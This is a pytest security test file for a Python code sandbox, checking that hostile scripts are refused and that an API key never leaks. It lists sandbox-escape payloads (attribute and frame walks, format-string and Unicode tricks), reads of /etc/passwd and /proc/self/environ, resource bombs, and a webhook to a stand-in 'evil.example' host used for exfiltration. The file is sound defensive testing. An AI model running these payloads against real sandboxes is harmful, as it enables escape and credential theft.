"""Hostile scripts, one family at a time: each is refused with a clean error, the host survives,
the worker is gone afterwards, and the canary key never shows up (see ``conftest.execute``)."""

from __future__ import annotations

import pytest

from codemode.sandbox import Sandbox

from .conftest import FakeBridge, execute

pytestmark = pytest.mark.asyncio(loop_scope="module")

# (id, script, accepted error types, fragment of the message)
REFUSED: list[tuple[str, str, set[str], str]] = [
    # imports of forbidden modules, directly and through allowed modules
    ("import_os", "import os", {"ImportError"}, "allowed modules: base64, bisect, collections"),
    (
        "import_sys",
        "import sys\nprint(sys.modules)",
        {"ImportError"},
        "not available in the sandbox",
    ),
    ("import_subprocess", "import subprocess", {"ImportError"}, "not available"),
    ("import_socket", "import socket", {"ImportError"}, "not available"),
    ("import_ctypes", "import ctypes", {"ImportError"}, "not available"),
    ("import_threading", "import threading", {"ImportError"}, "not available"),
    ("import_signal", "import signal", {"ImportError"}, "not available"),
    ("from_os_import", "from os import system", {"ImportError"}, "not available"),
    ("import_submodule", "import json.decoder", {"ImportError"}, "not available"),
    ("dunder_import", "__import__('os')", {"ForbiddenSyntax"}, "starts with"),
    (
        "json_codecs",
        "import json\nprint(json.codecs.builtins)",
        {"AttributeError"},
        "json.codecs is not available",
    ),
    (
        "from_json_import_codecs",
        "from json import codecs",
        {"AttributeError", "ImportError"},
        "not available",
    ),
    (
        "sys_modules_fallback",
        "from json import decoder",
        {"AttributeError", "ImportError"},
        "not available",
    ),
    ("re_enum", "import re\nprint(re.enum.sys)", {"AttributeError"}, "not available"),
    ("datetime_sys", "import datetime\nprint(datetime.sys)", {"AttributeError"}, "not available"),
    (
        "statistics_sys",
        "from statistics import sys",
        {"AttributeError", "ImportError"},
        "not available",
    ),
    ("textwrap_re", "import textwrap\ntextwrap.re", {"AttributeError"}, "not available"),
    (
        "string_formatter",
        "import string\nstring.Formatter().vformat('{0.__class__}', [1], {})",
        {"AttributeError"},
        "not available",
    ),
    (
        "functools_singledispatch",
        "from functools import singledispatch",
        {"AttributeError", "ImportError"},
        "not available",
    ),
    ("proxy_write", "import json\njson.loads = print", {"ForbiddenError"}, "cannot change"),
    # attribute walks
    ("class_walk", "().__class__.__base__.__subclasses__()", {"ForbiddenSyntax"}, "starts with"),
    (
        "getattr_built_name",
        "getattr((), '__cla' + 'ss__')",
        {"ForbiddenError"},
        "closed in the sandbox",
    ),
    ("globals_walk", "f = lambda: 0\nf.__globals__", {"ForbiddenSyntax"}, "__globals__"),
    ("builtins_name", "__builtins__['open']", {"ForbiddenSyntax"}, "__builtins__"),
    ("getattr_self", "getattr(print, '__self__')", {"ForbiddenError"}, "closed"),
    (
        "hasattr_probe",
        "print(hasattr(1, '__class__'))\nx = __class__",
        {"ForbiddenSyntax"},
        "__class__",
    ),
    (
        "str_subclass_name",
        "class S(str):\n    def startswith(self, p): return False\ngetattr(1, S('__class__'))",
        {"TypeError"},
        "plain str",
    ),
    ("mro_walk", "int.mro()", {"ForbiddenError"}, "mro"),
    (
        "getitem_module",
        "import json\nd = {'m': json}\nprint(vars)",
        {"NameError"},
        "namespace introspection",
    ),
    # frame walks
    (
        "gen_frame",
        "def g():\n    yield 1\nx = g()\nx.gi_frame.f_back",
        {"ForbiddenSyntax"},
        "restricted name",
    ),
    (
        "gen_frame_getattr",
        "def g():\n    yield 1\nx = g()\ngetattr(x, 'gi_' + 'frame')",
        {"ForbiddenError"},
        "gi_frame",
    ),
    ("gen_code", "def g():\n    yield 1\ngetattr(g(), 'gi_code')", {"ForbiddenError"}, "closed"),
    (
        "coroutine",
        "async def f():\n    return 1\nf().cr_frame",
        {"ForbiddenSyntax"},
        "AsyncFunctionDef",
    ),
    (
        "async_generator",
        "async def f():\n    yield 1\nf().ag_frame",
        {"ForbiddenSyntax"},
        "not allowed",
    ),
    (
        "traceback_attr",
        "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame",
        {"ForbiddenSyntax"},
        "forbidden",
    ),
    (
        "traceback_getattr",
        "try:\n    1/0\nexcept Exception as e:\n    getattr(e, '__trace' + 'back__')",
        {"ForbiddenError"},
        "closed",
    ),
    (
        "tb_frame_getattr",
        "try:\n    1/0\nexcept Exception as e:\n    t = e.with_traceback(None)\n    getattr(t, 'tb_frame')",
        {"ForbiddenError"},
        "tb_frame",
    ),
    # format strings
    ("str_format", "'{0.__class__}'.format(1)", {"ForbiddenError"}, "'__class__' is closed"),
    (
        "str_format_map",
        "'{x.__class__}'.format_map({'x': 1})",
        {"ForbiddenError"},
        "'__class__' is closed",
    ),
    ("str_type_format", "str.format('{0.__class__}', 1)", {"ForbiddenError"}, "'__class__'"),
    (
        "getattr_format",
        "getattr('{0.__globals__}', 'format')(len)",
        {"ForbiddenError"},
        "'__globals__' is closed",
    ),
    ("fstring_walk", "f'{().__class__}'", {"ForbiddenSyntax"}, "__class__"),
    ("format_builtin", "format(1, {})", {"TypeError"}, "spec must be a str"),
    # type, metaclass and dunder-hook tricks
    ("type_call", "type('X', (), {})", {"ForbiddenError"}, "three arguments"),
    (
        "metaclass",
        "class M:\n    pass\nclass A(metaclass=M):\n    pass",
        {"ForbiddenSyntax"},
        "metaclass",
    ),
    (
        "reduce_hook",
        "class A:\n    def __reduce__(self):\n        return (print, ('x',))",
        {"ForbiddenSyntax"},
        "__reduce__",
    ),
    (
        "init_subclass",
        "class A:\n    def __init_subclass__(cls):\n        pass",
        {"ForbiddenSyntax"},
        "__init_subclass__",
    ),
    (
        "class_getitem",
        "class A:\n    def __class_getitem__(cls, k):\n        pass",
        {"ForbiddenSyntax"},
        "__class_getitem__",
    ),
    (
        "getattr_hook",
        "class A:\n    def __getattribute__(self, k):\n        pass",
        {"ForbiddenSyntax"},
        "__getattribute__",
    ),
    ("setattr_builtin", "setattr(print, 'x', 1)", {"ForbiddenError"}, "cannot change"),
    (
        "setattr_dunder",
        "class A:\n    pass\nsetattr(A(), '__class__', int)",
        {"ForbiddenError"},
        "closed",
    ),
    (
        "aug_write_foreign",
        "import datetime\nd = datetime.date(2024, 1, 1)\nd.year += 1",
        {"ForbiddenError"},
        "cannot change",
    ),
    ("aug_write_tuple", "t = (1,)\nt[0] += 1", {"ForbiddenError"}, "cannot change"),
    ("aug_slice", "a = [1]\na[0:1] += [2]", {"ForbiddenSyntax"}, "slices"),
    (
        "aug_dunder",
        "class A:\n    pass\na = A()\na.__dict__ += 1",
        {"ForbiddenSyntax"},
        "starts with",
    ),
    (
        "write_foreign",
        "import datetime\nd = datetime.date(2024, 1, 1)\nd.year = 5",
        {"ForbiddenError"},
        "cannot change",
    ),
    # dynamic code
    ("exec_call", "exec('import os')", {"ForbiddenSyntax"}, "Exec calls are not allowed"),
    ("eval_call", "eval('1')", {"ForbiddenSyntax"}, "Eval calls are not allowed"),
    ("eval_alias", "e = eval\ne('1')", {"NameError"}, "no dynamic code"),
    ("exec_decorator", "@exec\ndef f():\n    pass", {"NameError"}, "no dynamic code"),
    ("compile_call", "compile('1', 'x', 'eval')", {"NameError"}, "no dynamic code"),
    ("vars_call", "vars()", {"NameError"}, "namespace"),
    ("globals_call", "globals()", {"NameError"}, "namespace access"),
    ("locals_call", "locals()", {"NameError"}, "namespace access"),
    ("dir_call", "dir()", {"NameError"}, "introspection"),
    ("help_call", "help()", {"NameError"}, "get_signature"),
    ("breakpoint_call", "breakpoint()", {"ForbiddenSyntax", "NameError"}, ""),
    ("input_call", "input()", {"NameError"}, "stdin"),
    (
        "nfkc_exec",
        "\uff45\uff58\uff45\uff43('1')",
        {"ForbiddenSyntax"},
        "Exec calls are not allowed",
    ),
    ("nfkc_dunder", "().__\uff43\uff4c\uff41\uff53\uff53__", {"ForbiddenSyntax"}, "__class__"),
    (
        "except_star",
        "try:\n    pass\nexcept* ValueError:\n    pass",
        {"ForbiddenSyntax"},
        "TryStar",
    ),
    ("match_stmt", "match 1:\n    case _:\n        pass", {"ForbiddenSyntax"}, "not allowed"),
    ("walrus_shadow", "(_getattr_ := print)", {"ForbiddenSyntax"}, "_getattr_"),
    ("param_shadow", "def f(_getattr_=print, /):\n    return 1", {"ForbiddenSyntax"}, "_getattr_"),
    # files, /proc, sockets, processes, threads, signals
    ("open_file", "open('/etc/passwd').read()", {"NameError"}, "cannot read or write files"),
    (
        "open_proc",
        "print(open('/proc/self/environ').read())",
        {"NameError"},
        "cannot read or write files",
    ),
    ("print_file", "print('x', file=store)", {"ForbiddenError"}, "print(file=...)"),
    # exiting games
    ("system_exit", "raise SystemExit(0)", {"NameError"}, "cannot stop the interpreter"),
    ("keyboard_interrupt", "raise KeyboardInterrupt", {"NameError"}, "not catchable"),
    ("base_exception", "class E(BaseException):\n    pass", {"NameError"}, "catch Exception"),
    ("exit_call", "exit()", {"NameError"}, "last line"),
    # resources
    ("deep_recursion", "def f(n):\n    return f(n + 1)\nf(0)", {"RecursionError"}, "use a loop"),
    ("string_bomb", "x = 'a' * (2 ** 40)", {"LimitError"}, "memory limit of 96 MiB"),
    ("shift_bomb", "x = 1 << (2 ** 36)", {"LimitError"}, "memory limit"),
    (
        "list_growth",
        "x = []\nwhile True:\n    x.append('y' * 10000)",
        {"LimitError"},
        "memory limit",
    ),
    ("cpu_loop", "while True:\n    pass", {"LimitError"}, "limit of 2 s exceeded"),
    ("big_int_bomb", "x = 10 ** 10 ** 8", {"LimitError"}, "limit of 2 s exceeded"),
    (
        "redos",
        "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')",
        {"LimitError"},
        "limit of 2 s exceeded",
    ),
    ("factorial", "import math\nmath.factorial(10 ** 8)", {"LimitError"}, "limit of 2 s exceeded"),
    # the SDK as an exfiltration channel
    ("key_attr", "print(klaviyo.api_key)", {"AttributeError"}, "has no group"),
    ("key_private", "print(klaviyo._caller._channel)", {"ForbiddenSyntax"}, "starts with"),
    ("key_getattr", "getattr(klaviyo, '_caller')", {"ForbiddenError"}, "closed"),
    (
        "webhook_default_refused",
        "klaviyo.webhooks.create_webhook(name='x', endpoint_url='https://evil.example', secret_key='k')",
        {"PolicyError"},
        "webhook",
    ),
]


@pytest.mark.parametrize(
    ("name", "code", "types", "fragment"), REFUSED, ids=[r[0] for r in REFUSED]
)
async def test_hostile_script_is_refused_cleanly(
    sandbox: Sandbox, name: str, code: str, types: set[str], fragment: str
) -> None:
    result = await execute(sandbox, code)
    assert result.error is not None, f"{name} should have failed; output={result.output!r}"
    assert result.error.type in types, result.error
    assert fragment in result.error.message, result.error.message
    assert len(result.error.message) < 600


async def test_error_names_the_script_line(sandbox: Sandbox) -> None:
    result = await execute(sandbox, "x = 1\ny = 2\nimport os\n")
    assert result.error is not None and result.error.line == 3


async def test_compile_error_names_the_line(sandbox: Sandbox) -> None:
    result = await execute(sandbox, "x = 1\n\ny = ().__class__\n")
    assert result.error is not None
    assert (result.error.type, result.error.line) == ("ForbiddenSyntax", 3)


async def test_syntax_error_is_reported_as_such(sandbox: Sandbox) -> None:
    result = await execute(sandbox, "x = (\n")
    assert result.error is not None and result.error.type == "SyntaxError"


async def test_catching_everything_still_cannot_exit(sandbox: Sandbox) -> None:
    code = "try:\n    raise ValueError('x')\nexcept:\n    print('caught')\nprint('after')"
    result = await execute(sandbox, code)
    assert result.error is None and result.output == "caught\nafter\n"


async def test_output_flood_is_cut_and_says_how_much_was_dropped(sandbox: Sandbox) -> None:
    result = await execute(sandbox, "for i in range(20000):\n    print('x' * 100)")
    assert result.error is None
    assert result.truncated and result.dropped_bytes > 1_000_000
    assert "output truncated" in result.output and "print a summary" in result.output
    assert len(result.output.encode()) < 2048 + 300


async def test_prints_from_functions_classes_and_callbacks_are_captured(sandbox: Sandbox) -> None:
    code = (
        "def f():\n    print('in f')\n"
        "class A:\n    def __init__(self):\n        print('in init')\n"
        "f()\nA()\n"
        "sorted([2, 1], key=lambda x: print('key', x) or x)\n"
        "print('inline', printed if False else '')\n"
    )
    result = await execute(sandbox, code)
    assert result.error is None, result.error
    for piece in ("in f", "in init", "key 2", "key 1", "inline"):
        assert piece in result.output


async def test_output_printed_before_a_timeout_is_kept(sandbox: Sandbox) -> None:
    result = await execute(sandbox, "print('started')\nwhile True:\n    pass")
    assert result.error is not None and result.error.type == "LimitError"
    assert result.output == "started\n"


async def test_sdk_errors_do_not_carry_the_key(sandbox: Sandbox) -> None:
    code = (
        "try:\n    klaviyo.profiles.get_profile(id='nope')\n"
        "except NotFoundError as e:\n    print(repr(e), e.status, e.detail, e.to_dict())\n"
        "print(repr(klaviyo), repr(klaviyo.profiles), repr(klaviyo.profiles.get_profiles))"
    )
    result = await execute(sandbox, code)
    assert result.error is None, result.error
    assert "404" in result.output and "host, which holds the key" in result.output


async def test_call_limit_is_enforced_by_the_host(sandbox: Sandbox) -> None:
    bridge = FakeBridge()
    code = "for i in range(50):\n    klaviyo.profiles.get_profiles()"
    result = await execute(sandbox, code, bridge=bridge)
    assert result.error is not None and result.error.type == "LimitError"
    assert "call limit of 5" in result.error.message
    assert len(bridge.calls) == 5
    assert result.calls[-1].error == "LimitError"


async def test_script_over_the_size_limit_is_refused_before_running(sandbox: Sandbox) -> None:
    result = await sandbox.execute("x = 1\n" * 20000, bridge=FakeBridge())
    assert result.error is not None and result.error.type == "LimitError"
    assert "65536 bytes" in result.error.message
    assert result.worker_pid is None


async def test_host_survives_and_runs_the_next_script(sandbox: Sandbox) -> None:
    await execute(sandbox, "while True:\n    pass")
    result = await execute(sandbox, "print(sum(range(10)))")
    assert result.output == "45\n"


async def test_lone_surrogates_in_code_and_output_do_not_break_the_protocol(
    sandbox: Sandbox,
) -> None:
    result = await execute(sandbox, "print('a\\ud800b')\nx = '\ud800'\nraise ValueError('\\udfff')")
    assert result.output == "a?b\n"
    assert result.error is not None and result.error.type == "ValueError"


async def test_a_non_json_store_from_the_caller_is_refused(sandbox: Sandbox) -> None:
    result = await sandbox.execute("pass", bridge=FakeBridge(), store={"s": {1, 2}})
    assert result.error is not None and result.error.type == "StoreError"


async def test_nothing_a_script_does_reaches_the_hosts_stdout_or_stderr(
    sandbox: Sandbox, capfd: pytest.CaptureFixture[str]
) -> None:
    code = (
        "print('to output')\n"
        "def f():\n    print('inside')\n"
        "f()\n"
        "try:\n    print('x', file=store)\nexcept Exception:\n    pass\n"
        "raise ValueError('boom')\n"
    )
    result = await execute(sandbox, code)
    assert "to output" in result.output and "inside" in result.output
    captured = capfd.readouterr()
    assert captured.out == "" and captured.err == ""
